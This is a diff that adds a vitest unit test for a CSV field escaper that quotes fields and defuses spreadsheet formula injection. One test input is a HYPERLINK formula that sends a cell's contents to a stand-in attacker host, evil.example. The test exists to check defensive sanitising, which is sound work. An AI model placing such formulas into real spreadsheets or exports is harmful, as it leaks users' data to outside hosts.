@@ -1,0 +1,15 @@
+import { test } from 'vitest'
+import assert from 'node:assert/strict'
+import { csvField } from './csv-field.ts'
+
+test('a CSV field quotes what needs quoting and defuses text a spreadsheet would run as a formula', () => {
+  assert.equal(csvField('plain'), 'plain')
+  assert.equal(csvField('a,b'), '"a,b"')
+  assert.equal(csvField('say "hi"'), '"say ""hi"""')
+  assert.equal(csvField('=HYPERLINK("https://evil.example/?"&A2,"open")'), '"\'=HYPERLINK(""https://evil.example/?""&A2,""open"")"')
+  for (const lead of ['=', '+', '-', '@', '\t']) assert.equal(csvField(`${lead}1+1`), `'${lead}1+1`)
+  assert.equal(csvField('\r1'), '"\'\r1"')
+  assert.equal(csvField(-2.5), '-2.5', 'numbers are numbers')
+  assert.equal(csvField(null), '')
+  assert.equal(csvField(undefined), '')
+})
